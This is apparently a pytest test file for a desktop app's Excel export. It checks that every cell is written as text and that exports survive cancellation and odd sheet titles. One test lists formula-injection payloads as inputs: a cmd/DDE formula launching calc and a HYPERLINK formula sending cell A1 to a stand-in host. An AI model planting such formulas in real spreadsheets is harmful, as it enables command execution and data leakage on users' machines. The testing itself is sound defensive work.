import re

import openpyxl
import pytest

from desktop_app.errors import Cancelled, UserError
from desktop_app.exchange.workbook import write_workbook

ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")
HEADINGS = ["Código", "Título"]


def unescaped(text):
    """Read a text as spreadsheets do (ECMA-376, ST_Xstring)."""
    return ESCAPED.sub(lambda found: chr(int(found[1], 16)), text)


def read(path):
    book = openpyxl.load_workbook(path)
    try:
        return [[(cell.value, cell.data_type) for cell in row] for row in book.active.rows]
    finally:
        book.close()


def test_a_table_comes_back_as_it_was_written(tmp_path):
    path = tmp_path / "list.xlsx"
    lines = write_workbook(path, "Iniciativas", HEADINGS, [["BO-1", "Gestión hídrica, ñandú"]])

    assert lines == 1
    assert read(path)[1] == [("BO-1", "s"), ("Gestión hídrica, ñandú", "s")]


@pytest.mark.case("X4")
@pytest.mark.parametrize(
    "text",
    [
        *(
            "=1+1",
            "+1",
            "-1",
            "-0",
            "@SUM(A1)",
            "\t=1",
            "\n=1",
            "#N/A",
            "#REF!",
            "1e5",
            "TRUE",
            "007",
        ),
        *("=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("http://h/?"&A1)'),
        *("_x0041_", "_x000D_", "a_x005F_x0041_", "__x0041__", "_x41_", "2024-03-15", "'=1", "'"),
        *(" spaces  kept ", "<b>&amp;</b>", "]]>", "\u2028", "1.234,56"),
    ],
)
def test_every_cell_is_a_text_and_reads_back_as_it_was(tmp_path, text):
    path = tmp_path / "list.xlsx"
    write_workbook(path, "Lista", ["A"], [[text]])
    ((value, form),) = read(path)[1]

    assert form == "s"
    assert unescaped(value) == text


def test_a_title_with_marks_no_sheet_takes_is_mended(tmp_path):
    path = tmp_path / "list.xlsx"
    write_workbook(path, "Ofertas / solicitudes [2026]: todas las que están abiertas", ["A"], [])

    assert path.stat().st_size > 0


def test_a_table_that_was_stopped_leaves_nothing(tmp_path):
    def stop(_done, _total):
        raise Cancelled

    with pytest.raises(Cancelled):
        write_workbook(tmp_path / "list.xlsx", "Lista", ["A"], [["x"]], step=stop)

    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there_is_told(tmp_path):
    with pytest.raises(UserError):
        write_workbook(tmp_path / "no" / "list.xlsx", "Lista", ["A"], [["x"]])
